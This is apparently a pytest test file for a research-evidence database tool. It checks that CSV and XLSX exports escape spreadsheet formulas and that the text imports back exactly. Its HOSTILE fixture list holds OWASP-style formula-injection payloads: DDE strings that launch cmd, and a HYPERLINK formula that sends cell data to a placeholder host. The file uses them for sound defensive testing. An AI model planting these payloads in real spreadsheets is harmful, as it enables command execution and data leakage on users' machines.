"""Exports never carry live formulas, and import restores the guarded text exactly (both backends)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from cli_run import run
from hypothesis import given
from hypothesis import strategies as st

from evidencedb.io.cells import TRIGGERS, guard, needs_guard, unguard

#: Cells seen in shared sheets that spreadsheets run as formulas (OWASP's examples and variants).
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "'=already guarded by hand",
    "\t=tab first",
]
#: What the database holds for them: input is trimmed, and an apostrophe guarding a formula is read as
#: the spreadsheet convention it is (the cell's text is what follows it).
STORED = [unguard(text.strip()) for text in HOSTILE]


@given(st.text())
def test_guard_is_undone_by_unguard_and_never_starts_a_formula(text: str) -> None:
    guarded = guard(text)
    assert unguard(guarded) == text
    assert not guarded.startswith(TRIGGERS)
    assert guarded == text or guarded == "'" + text


@pytest.mark.parametrize(("text", "guarded"), [
    ("=1+1", "'=1+1"), ("-", "'-"), ("plain", "plain"), ("", ""), ("'quoted'", "'quoted'"),
    ("'=x", "''=x"), ("a=b", "a=b"),
])
def test_guard_examples(text: str, guarded: str) -> None:
    assert guard(text) == guarded and needs_guard(text) == (guarded != text)


def _sheet(path: Path) -> Path:
    rows = [{"study_id": f"s-{i}", "citation": f"Study {i} 2021", "title": text, "year": "2021",
             "design": "single-arm phase II trial", "n_patients": "20", "biomarker": "MRD", "biomarker_category": "MRD",
             "outcome": "EFS",
             "outcome_category": "efficacy", "association": "supports", "measure": text, "group_results": text,
             "p_value": text[:30], "quote": text, "location": text} for i, text in enumerate(HOSTILE)]
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


@pytest.mark.parametrize("table", ["findings", "studies"])
def test_exports_hold_no_formula_and_import_back_exactly(
        db_url: str, second_db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], table: str) -> None:
    from openpyxl import load_workbook  # type: ignore[import-untyped]

    for url in (db_url, second_db_url):
        assert run(capsys, "--db", url, "init", "--empty")[0] == 0
        assert run(capsys, "--db", url, "review", "new", "mine", "--title", "Mine")[0] == 0
    code, _, err = run(capsys, "--db", db_url, "import", str(_sheet(tmp_path / "hostile.csv")), "-r", "mine")
    assert code == 0, err
    xlsx, csv_path = tmp_path / f"{table}.xlsx", tmp_path / f"{table}.csv"
    for path in (xlsx, csv_path):
        assert run(capsys, "--db", db_url, "export", table, str(path), "-r", "mine")[0] == 0

    book = load_workbook(xlsx)
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    assert {str(c.value) for c in cells} >= set(STORED)  # shown as the text it is
    with csv_path.open(encoding="utf-8", newline="") as fh:
        texts = [cell for row in csv.reader(fh) for cell in row]
    assert not [t for t in texts if t.startswith(TRIGGERS)]
    assert {guard(s) for s in STORED} <= set(texts)

    if table == "findings":  # the extraction sheet imports back: every hostile text exactly as curated
        for path, url in ((csv_path, second_db_url), (xlsx, db_url)):
            code, out, err = run(capsys, "--db", url, "import", str(path), "-r", "mine")
            assert code == 0, err
        for url in (db_url, second_db_url):
            data = json.loads(run(capsys, "--db", url, "marker", "MRD", "-r", "mine", "--format", "json")[1])
            assert sorted(f["quote"] for f in data["findings"]) == sorted(STORED)
            assert sorted(f["group_results"] for f in data["findings"]) == sorted(STORED)
        assert "already present" in out  # the XLSX re-import into the source matched every finding
